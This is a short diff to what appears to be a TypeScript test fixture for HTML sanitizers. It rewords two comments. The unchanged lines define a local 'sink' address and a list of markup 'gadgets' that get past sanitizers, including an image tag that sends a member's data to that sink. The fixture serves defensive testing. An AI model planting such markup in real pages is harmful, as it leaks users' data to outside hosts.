@@ -1,4 +1,4 @@
-/** Another server, to which content tries to send what a member sees. Nothing listens there. */
+/** Another server to which content tries to send a member's data. Nothing listens there. */
 export const sink = '127.0.0.1:9';
 
 const evil = `http://${sink}`;
@@ -9,7 +9,7 @@ const feed = (content: string, attributes = '') =>
 
 const row = (content: string) => feed(`<div data-slot="activity">[[title]] ${content}</div>`);
 
-/** What sanitizers let through, by what it tries. */
+/** Markup that sanitizers accept, by what it attempts. */
 export const contentGadgets: Readonly<Record<string, string>> = {
   'an image in a row': row(`<img src="${evil}/c?${values}">`),
   'a picture in a row': row(
